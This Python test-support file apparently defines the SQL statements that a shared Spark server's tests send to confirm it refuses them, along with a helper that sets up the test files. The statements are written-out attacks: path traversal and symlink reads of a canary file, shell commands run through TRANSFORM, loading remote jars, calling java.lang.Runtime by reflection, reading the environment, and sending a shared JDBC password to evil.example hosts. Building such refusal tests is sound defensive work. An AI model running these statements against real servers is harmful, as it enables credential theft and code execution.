"""What users of a shared server try: statements that must be refused, each in many spellings, and honest ones.

tools/docs/generate.py makes the tables of docs/shared-servers.md from these, and the tests send every one of them.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from pathlib import Path

from support.attacks_by_size import SQL_BY_SIZE
from support.attacks_in_connect import CONNECT
from support.attacks_in_files import PATTERNS, footer, log_of_a_sink, patterns
from support.attacks_in_sql import IN_SQL

__all__ = [
    "BAIT",
    "BOUND",
    "CONNECT",
    "CONNECTED",
    "FIELDED",
    "FOOTED",
    "LINKED",
    "LOGGED",
    "NEWER",
    "SHOP",
    "STATEMENTS",
    "fill",
    "log_of_a_sink",
    "named",
    "prepare",
    "view",
]

BAIT = "Canary-51aa0e-value"
"""What lies in the server's file that nobody may read."""

TEXT = "org.apache.spark.sql.execution.datasources.text"
ROT13 = "org.apache.hadoop.hive.ql.udf.generic.GenericUDFInFile"

PATHS: Sequence[str] = (
    "{bait}",
    "file:{bait}",
    "file://{bait}",
    "FILE:{bait}",
    "//{bait}",
    "/proc/self/root{bait}",
    "{lake}/../bait.txt",
    "file:{lake}//..//bait.txt",
    "file:{lake}/./../bait.txt",
    "{folder}/b?it.txt",
    "{folder}/{{lake,bait.txt}}",
    "{lake}/link.txt",
    "{lake}/.\\./bait.txt",
    "{lake}/.{{/a,./bait.txt}}",
    "{lake}/{{.,/a}}{{.,/b}}/bait.txt",
)
"""Spellings of one file of the server; ``{lake}`` is a folder that users may read, beside the file."""

NEWER = re.compile(r" WITH \(|FROM xml\.|\|>|^DECLARE |^EXECUTE |^CALL |RETURN \(|\bfielded\b")
"""What 3.5 has not: options of one read, XML, pipes, variables, procedures, SQL in a text, any name for a field."""

# A password that everybody may use for one database, and nowhere else; that database; a table with that password.
PASSWORD = "${{files:{folder}/shop/db.properties:password}}"
SHOP = "jdbc:derby:memory:shop;create=true"
_LOGIN = f"dbtable 'sysibm.sysdummy1', user 'app', password '{PASSWORD}'"
BOUND = f"CREATE TABLE bound USING jdbc OPTIONS (url '{SHOP}', {_LOGIN})"

#: Through a connection that is for reading.
CONNECTED = (
    "CREATE TABLE connected USING jdbc OPTIONS (sparkconfig.connection 'look', dbtable 'sysibm.sysdummy1')"
)

#: Tables of files in the lake whose footers say what Spark shall evaluate for a column that is left out.
FOOTED = "CREATE TABLE footed USING parquet LOCATION '{lake}/footer'"

#: A table of whose default Spark writes SQL anew, with the name of a field between quotes.
FIELDED = (
    "CREATE TABLE fielded (a INT, s STRUCT<`x', cast(xpath_string('<a/>', 'system-property(\"user.home\")') as int), "
    "'y`: STRING> DEFAULT named_struct('a', 'v')) USING json"
)

#: A table whose folder holds a link out of the lake.
LINKED = "CREATE TABLE linked_table (a STRING) USING text LOCATION '{lake}/linked'"

#: A table whose folder gets a log of a sink afterwards, by :func:`log_of_a_sink`.
LOGGED = (
    "CREATE TABLE logged_table (a STRING) USING text "
    "OPTIONS (path '{lake}/{server}_later', recursiveFileLookup 'true')"
)


def named(more: str, name: str = "shop", source: str = "jdbc") -> str:
    """A view through a named connection."""
    return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (sparkconfig.connection '{name}', {more})"


def view(url: str, more: str = "", source: str = "jdbc") -> str:
    """A view with the password that everybody may use for one database."""
    return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS (url '{url}', {_LOGIN}{more})"


def _jdbc(options: str) -> str:
    return f"CREATE TEMPORARY VIEW peek USING jdbc OPTIONS (url '{SHOP}', {options})"


def _csv(option: str) -> str:
    return f"CREATE TEMPORARY VIEW peek USING csv OPTIONS (path '{{lake}}', {option} '{PASSWORD}')"


def _embedded(url: str, more: str = "", option: str = "url") -> str:
    """A view of a database that would run inside the server, or load code."""
    return (
        f"CREATE TEMPORARY VIEW peek USING jdbc OPTIONS ({option} '{url}', dbtable 'sysibm.sysdummy1'{more})"
    )


STATEMENTS: Mapping[str, Sequence[str]] = {
    **IN_SQL,
    **SQL_BY_SIZE,
    "run a database inside the server": [
        _embedded("jdbc:derby:memory:mine;create=true"),
        _embedded("jdbc:derby:{folder}/mine;create=true"),
        _embedded("jdbc:derby:memory:mine", option="`URL`"),
        _embedded("jdbc:derby:jar:({bait})mine"),
        _embedded("JDBC:Derby:memory:mine;create=true"),
        _embedded(" jdbc:derby:memory:mine;create=true"),
        _embedded("jdbc:sparkconfig:derby:memory:mine;create=true"),
        _embedded("jdbc:hive2://evil.example/x"),
        _embedded(
            "jdbc:derby:memory:mine;create=true", ", sessionInitStatement 'CALL SQLJ.INSTALL_JAR(a, b, 0)'"
        ),
        _embedded("jdbc:postgresql://db/shop?socketFactory=com.acme.Own"),
        _embedded("jdbc:postgresql://db/shop", ", socketFactory 'com.acme.Own'"),
        "CREATE TABLE peek USING jdbc OPTIONS (url 'jdbc:derby:memory:mine;create=true', dbtable 'a') AS SELECT 1 AS b",
    ],
    "read a file by a name that is a pattern": PATTERNS,
    "read a file": [f"SELECT * FROM text.`{path}`" for path in PATHS],
    "read a file, by the source's other names": [
        f"SELECT * FROM {source}.`{{bait}}`"
        for source in (
            "csv",
            "TEXT",
            "`json`",
            "xml",
            "binaryFile",
            "orc",
            "parquet",
            f"`{TEXT}`",
            f"`{TEXT}.TextFileFormat`",
            "`org.apache.spark.sql.text`",
        )
    ],
    "read a file inside another statement": [
        "SELECT (SELECT max(value) FROM text.`{bait}`)",
        "WITH t AS (SELECT * FROM text.`{bait}`) SELECT * FROM t",
        "SELECT * FROM range(1) WHERE EXISTS (SELECT * FROM text.`{bait}`)",
        "SELECT 1 UNION ALL SELECT length(value) FROM text.`{bait}`",
        "CREATE TEMPORARY VIEW peek AS SELECT * FROM text.`{bait}`",
        "CREATE TABLE peek USING parquet AS SELECT * FROM text.`{bait}`",
        "INSERT INTO kept SELECT length(value) FROM text.`{bait}`",
        "CACHE TABLE peek AS SELECT * FROM text.`{bait}`",
        "EXPLAIN SELECT * FROM text.`{bait}`",
        "DESCRIBE QUERY SELECT * FROM text.`{bait}`",
        "SELECT * FROM IDENTIFIER('text.`{bait}`')",
        "SELECT * FROM range(1) r JOIN LATERAL (SELECT * FROM text.`{bait}`) t",
    ],
    "make a view of a file": [
        f"CREATE TEMPORARY VIEW peek USING text OPTIONS (path '{path}')" for path in PATHS[:10]
    ],
    "make a table of a file": [
        "CREATE TABLE peek (value STRING) USING text LOCATION '{bait}'",
        "CREATE TABLE peek (value STRING) USING text OPTIONS (path '{bait}')",
        "CREATE TABLE peek (value STRING) USING text OPTIONS ('PATH' 'file:{bait}')",
        "CREATE EXTERNAL TABLE peek (value STRING) STORED AS TEXTFILE LOCATION '{folder}'",
        "CREATE TABLE peek USING text LOCATION '/proc/self/root{bait}'",
        "CREATE TABLE peek USING csv LOCATION 'FILE:{bait}'",
        "CREATE TABLE peek LIKE kept LOCATION '{folder}'",
        "CREATE DATABASE peek LOCATION '{folder}'",
        "ALTER TABLE kept SET LOCATION '{folder}'",
        "CREATE TABLE peek USING parquet LOCATION '{lake}/../out' AS SELECT 1 AS a",
    ],
    "write to the server's disk": [
        "INSERT OVERWRITE DIRECTORY '{folder}/out' USING csv SELECT 1",
        "INSERT OVERWRITE DIRECTORY 'file:{folder}/out' USING parquet SELECT 1",
        "INSERT OVERWRITE DIRECTORY 'FILE://{folder}/out' USING text SELECT 'a'",
        "INSERT OVERWRITE DIRECTORY USING json OPTIONS (path '{folder}/out') SELECT 1",
        "INSERT OVERWRITE LOCAL DIRECTORY '{folder}/out' USING csv SELECT 1",
        "INSERT OVERWRITE LOCAL DIRECTORY '{folder}/out' SELECT 1",
        "INSERT OVERWRITE DIRECTORY '{lake}/../out' USING csv SELECT 1",
        "INSERT OVERWRITE DIRECTORY '//{folder}/out' USING csv SELECT 1",
        "INSERT OVERWRITE DIRECTORY '/proc/self/root{folder}/out' USING csv SELECT 1",
        "INSERT OVERWRITE DIRECTORY '{lake}/away/out' USING csv SELECT 1",
    ],
    "move a file into a table": [
        "LOAD DATA INPATH '{bait}' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '{bait}' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH 'file:{bait}' OVERWRITE INTO TABLE kept",
        "LOAD DATA INPATH 'FILE:{bait}' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '{folder}/b*.txt' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '/proc/self/root{bait}' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '{lake}/../bait.txt' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '//{bait}' INTO TABLE kept",
        "LOAD DATA LOCAL INPATH '{lake}/link.txt' INTO TABLE kept",
        "REFRESH '{bait}'",
    ],
    "run a program": [
        "SELECT TRANSFORM (id) USING 'cat' AS (a) FROM range(1)",
        "SELECT TRANSFORM (id) USING '/bin/cat {bait}' AS (a) FROM range(1)",
        "SELECT transform (id) USING 'env' AS (a STRING) FROM range(1)",
        "FROM range(1) SELECT TRANSFORM (id) USING 'cat'",
        "FROM range(1) MAP id USING 'cat' AS (a)",
        "FROM range(1) REDUCE id USING 'cat' AS (a)",
        "SELECT * FROM (SELECT TRANSFORM (id) USING 'cat' AS (a) FROM range(1))",
        "CREATE TEMPORARY VIEW peek AS SELECT TRANSFORM (id) USING 'cat' AS (a) FROM range(1)",
        "WITH t AS (SELECT TRANSFORM (id) USING 'cat' AS (a) FROM range(1)) SELECT * FROM t",
        "/* a */ SELECT TRANSFORM (id) USING 'cat' AS (a) FROM range(1) t",
    ],
    "bring code": [
        "ADD JAR '{bait}'",
        "ADD JAR file:{bait}",
        "add jars '{bait}' '{bait}'",
        "ADD JAR 'ivy://org.example:evil:1.0'",
        "ADD FILE '{bait}'",
        "ADD FILES '{bait}'",
        "add file {bait}",
        "ADD ARCHIVE '{bait}'",
        "ADD ARCHIVES '{bait}'",
        "LIST JARS",
        "LIST FILES",
        "LIST ARCHIVE",
    ],
    "make a function of a class": [
        f"CREATE TEMPORARY FUNCTION peek AS '{ROT13}'",
        f"CREATE FUNCTION peek AS '{ROT13}'",
        f"CREATE OR REPLACE FUNCTION peek AS '{ROT13}'",
        f"CREATE FUNCTION IF NOT EXISTS peek AS '{ROT13}'",
        f"CREATE OR REPLACE TEMPORARY FUNCTION peek AS '{ROT13}'",
        f"CREATE FUNCTION peek AS '{ROT13}' USING JAR '{{bait}}'",
        f"CREATE TEMPORARY FUNCTION peek AS '{ROT13}' USING JAR 'file:{{bait}}'",
        f"CREATE FUNCTION peek AS '{ROT13}' USING FILE '{{bait}}'",
        f"CREATE FUNCTION default.peek AS '{ROT13}' USING ARCHIVE '{{bait}}'",
        "CREATE FUNCTION peek AS 'com.acme.Own'",
    ],
    "call a class by its name": [
        f"SELECT {name}({arguments})"
        for name in ("reflect", "java_method", "REFLECT", "`reflect`")
        for arguments in (
            "'java.lang.System', 'getenv', 'HOME'",
            "'java.lang.System', 'getProperty', 'user.home'",
            "'java.lang.Runtime', 'getRuntime'",
        )
    ],
    "load a class as a data source": [
        "CREATE TEMPORARY VIEW peek USING com.acme.Own",
        "CREATE TEMPORARY VIEW peek USING `com.acme.Own` OPTIONS (a 'b')",
        "CREATE TABLE peek USING com.acme.Own",
        "CREATE TABLE peek (a INT) USING `java.lang.Runtime`",
        "CREATE TABLE peek (a INT) STORED AS INPUTFORMAT 'com.acme.In' OUTPUTFORMAT 'com.acme.Out'",
        "CREATE TABLE peek (a INT) ROW FORMAT SERDE 'com.acme.Serde'",
        "CREATE TABLE peek USING binaryFile LOCATION '{lake}'",
        "INSERT OVERWRITE DIRECTORY '{lake}/x' USING com.acme.Own SELECT 1",
        "ALTER TABLE kept SET SERDE 'com.acme.Serde'",
        "ALTER TABLE kept SET SERDEPROPERTIES ('Serialization.Lib' = 'com.acme.Serde')",
        "ALTER TABLE kept SET TBLPROPERTIES ('storage_handler' = 'com.acme.Handler')",
        f"CREATE TEMPORARY VIEW peek USING `{TEXT}.TextFileFormat` OPTIONS (path '{{lake}}')",
    ],
    "read the server's environment": [
        "SELECT '${{env:HOME}}'",
        "SELECT '${{env:PATH}}' AS a FROM range(1)",
        "SELECT '${{system:user.home}}'",
        "SELECT '${{system:java.class.path}}'",
        "SELECT 1 -- ${{env:HOME}}",
        "SELECT /* ${{system:user.home}} */ 1",
        "SET spark.sql.session.timeZone=${{env:HOME}}",
        "CREATE TEMPORARY VIEW peek AS SELECT '${{env:HOME}}' AS a",
        "SELECT * FROM range(1) WHERE '${{env:HOME}}' LIKE '/%'",
        "SELECT concat('a', '${{system:user.name}}')",
    ],
    "send a password elsewhere": [
        view("jdbc:derby:memory:other;create=true"),
        view("jdbc:derby:memory:shop;create=true;traceFile=x"),
        view("jdbc:derby://evil.example:1527/shop;create=true"),
        view("jdbc:postgresql://evil.example/shop"),
        view("jdbc:postgresql://shop@evil.example/shop"),
        view("jdbc:mysql://evil.example/shop?autoDeserialize=true"),
        view("jdbc:sqlserver://shop;serverName=evil.example"),
        view(SHOP, ", socketFactory 'com.acme.Own'"),
        view(SHOP, ", traceFile '{lake}/trace'"),
        view(SHOP.replace("shop", "Shop"), source="org.apache.spark.sql.jdbc"),
        "SELECT * FROM bound WITH (url 'jdbc:derby:memory:other;create=true')",
        BOUND.replace("TABLE bound", "TABLE peek").replace("memory:shop", "memory:other"),
    ],
    "take a connection apart": [
        named("dbtable 'sysibm.sysdummy1', url 'jdbc:derby://evil.example:1527/shop'"),
        named("dbtable 'sysibm.sysdummy1', `URL` 'jdbc:derby://evil.example:1527/shop'"),
        named("dbtable 'sysibm.sysdummy1', Password 'mine'"),
        named("dbtable 'sysibm.sysdummy1', user 'admin'"),
        named("dbtable 'sysibm.sysdummy1', driver 'com.acme.Own'"),
        named("dbtable 'sysibm.sysdummy1', socketFactory 'com.acme.Own'"),
        named("dbtable 'sysibm.sysdummy1', connectionProvider 'basic'"),
        named("dbtable 'sysibm.sysdummy1', sessionInitStatement 'DROP TABLE orders'"),
        named("dbtable 'sysibm.sysdummy1', traceFile '{lake}/trace'"),
        named("a 'b'", source="console"),
        named("path '{lake}'", source="text"),
        named("dbtable 'sysibm.sysdummy1', `SPARKCONFIG.Connection` 'look'"),
        "SELECT * FROM connected WITH (url 'jdbc:derby:memory:other;create=true')",
        "SELECT * FROM bound WITH (`sparkconfig.connection` 'shop')",
        named("dbtable '(VALUES $[keyValue=password]) a'"),
        named("dbtable 'sysibm.sysdummy1', hint '$[keyValue=url]'"),
        BOUND.replace("TABLE bound", "TABLE peek").replace("(url", "(sparkconfig.connection 'shop', url"),
    ],
    "use another user's connection": [
        named("dbtable 'sysibm.sysdummy1'", name="hidden"),
        named("dbtable 'sysibm.sysdummy1'", name="HIDDEN"),
        named("dbtable 'sysibm.sysdummy1'", name="bobs"),
        named("dbtable 'sysibm.sysdummy1'", name="Shop"),
        named("dbtable 'sysibm.sysdummy1'", name="none of these"),
        named("dbtable 'sysibm.sysdummy1'", name=PASSWORD),
        named("dbtable 'sysibm.sysdummy1'", name="hidden", source="JDBC"),
        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'sysibm.sysdummy1')",
        "CREATE TABLE peek (a INT) USING jdbc OPTIONS (`SparkConfig.CONNECTION` 'hidden', dbtable 'sysibm.sysdummy1')",
        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'hidden', dbtable 'peek') AS SELECT 1 AS a",
        "CREATE TABLE peek USING jdbc OPTIONS (sparkconfig.connection 'look', dbtable 'peek') AS SELECT 1 AS a",
        "INSERT INTO connected VALUES ('a')",
        "INSERT OVERWRITE connected SELECT 'a'",
        "INSERT INTO TABLE connected (IBMREQD) VALUES ('a')",
    ],
    "read a password": [
        _csv("nullValue"),
        _csv("password"),
        _csv("lineSep").replace("USING csv", "USING text"),
        _jdbc(f"query 'VALUES 1 -- {PASSWORD}'"),
        _jdbc(f"dbtable '(VALUES 1) a -- {PASSWORD}'"),
        _jdbc(f"dbtable 'sysibm.sysdummy1', sessionInitStatement '{PASSWORD}'"),
        f"CREATE TEMPORARY VIEW peek USING jdbc OPTIONS (url '{PASSWORD}', dbtable 'a')",
        f"CREATE TABLE peek (a STRING) USING parquet TBLPROPERTIES ('a' = '{PASSWORD}')",
        f"ALTER TABLE kept SET TBLPROPERTIES ('a' = '{PASSWORD}')",
        f"SELECT * FROM kept WITH (nullValue '{PASSWORD}')",
        _jdbc(f"dbtable 'sysibm.sysdummy1', driver '{PASSWORD}'"),
    ],
    "choose the server's code by a conf": [
        f"SET {key}"
        for key in (
            "spark.sql.adaptive.customCostEvaluatorClass=com.acme.Own",
            "spark.sql.extensions=com.acme.Own",
            "spark.sql.catalog.own=com.acme.Own",
            (
                "spark.sql.sources.commitProtocolClass"
                "=org.apache.spark.sql.execution.datasources.SQLHadoopMapReduceCommitProtocol"
            ),
            "spark.sql.parquet.output.committer.class=org.apache.parquet.hadoop.ParquetOutputCommitter",
            "spark.sql.sources.commitProtocolClass=com.acme.Own",
            "spark.sql.streaming.commitProtocolClass=com.acme.Own",
            "spark.sql.cache.serializer=com.acme.Own",
            "spark.hadoop.fs.s3a.impl=com.acme.Own",
            "fs.own.impl=com.acme.Own",
            "spark.sql.queryExecutionListeners=com.acme.Own",
            "spark.sql.streaming.stateStore.providerClass=com.acme.Own",
            "mapreduce.outputcommitter.factory.class=com.acme.Own",
        )
    ],
}
"""What a user tries: the attack to its statements, for both servers. ``{bait}`` and the like are filled in."""


def fill(text: str, folder: Path, server: str) -> str:
    """A statement for the files of :func:`prepare`, and a server of this name."""
    evil = "jdbc:derby:memory:other;create=true"
    return text.format(
        bait=folder / "bait.txt", lake=folder / "lake", folder=folder, server=server, evil=evil
    )


def prepare(folder: Path) -> None:
    """Make the file that nobody may read, and a lake beside it with links out of it."""
    for name in ("bait.txt", "code.py", "code.zip", "code.jar", "Code.class"):
        (folder / name).write_text(f"{BAIT}\n")
    lake = folder / "lake"
    lake.mkdir()
    (lake / "link.txt").symlink_to(folder / "bait.txt")
    (folder / "away").mkdir()
    (lake / "away").symlink_to(folder / "away")
    (folder / "away" / "bait.txt").write_text(f"{BAIT}\n")
    (lake / "linked").mkdir()
    (lake / "linked" / "link.txt").symlink_to(folder / "bait.txt")
    (lake / "linked_days").mkdir()
    (lake / "linked_days" / "day=a").symlink_to(folder / "away")
    log_of_a_sink(folder, "logged")
    footer(lake / "footer")
    patterns(lake)
